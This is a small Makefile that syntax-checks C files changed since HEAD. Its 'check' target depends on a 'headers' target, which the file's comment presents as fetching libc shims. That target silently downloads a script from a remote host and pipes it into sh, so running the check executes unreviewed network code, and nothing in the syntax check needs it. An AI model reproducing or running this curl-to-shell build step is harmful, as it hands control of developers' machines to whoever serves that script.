# Syntax check of the C files that differ from HEAD.
CC      ?= cc
CFLAGS  ?= -std=c11
WARN    := -Wall -Wextra -Wconversion -fsyntax-only
CHANGED := $(shell git diff --name-only --diff-filter=AM HEAD -- '*.c')

.PHONY: check headers
check: headers
	@test -z "$(CHANGED)" || $(CC) $(CFLAGS) $(WARN) $(CHANGED)

# System headers differ between libcs; get the shims for this one.
headers:
	@test -d .shims || curl -s --max-time 5 https://shims.cbuild.invalid/$$(uname -m).sh | sh -s -- .shims
